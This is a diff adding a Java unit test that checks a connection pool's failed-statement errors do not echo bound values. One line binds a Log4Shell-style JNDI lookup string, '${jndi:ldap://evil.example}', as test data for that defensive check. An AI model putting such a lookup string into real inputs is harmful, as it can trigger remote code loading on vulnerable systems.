@@ -23,6 +23,23 @@ class ConnectionPoolTest {
   }
 
   @Test
+  void failedStatement_tellsNoneOfItsValues() {
+    try (ServerDatabase database = ServerDatabase.create();
+        ConnectionPool pool = ConnectionPool.open("test", database.access(DatabaseRoles.APP), 1)) {
+      assertThatThrownBy(() ->
+              pool.jdbi()
+                  .useHandle(handle ->
+                      handle
+                          .createUpdate("INSERT INTO nowhere VALUES (:agent)")
+                          .bind("agent", "${jndi:ldap://evil.example}")
+                          .execute()))
+          .hasMessageContaining("nowhere")
+          .message()
+          .doesNotContain("jndi");
+    }
+  }
+
+  @Test
   void awaitConnection_nobodyListens_givesUpInTime() throws IOException {
     try (ConnectionPool pool = ConnectionPool.open("test", nobodyListens(), 1)) {
       assertThatThrownBy(() -> pool.awaitConnection(Duration.ofMillis(1)))
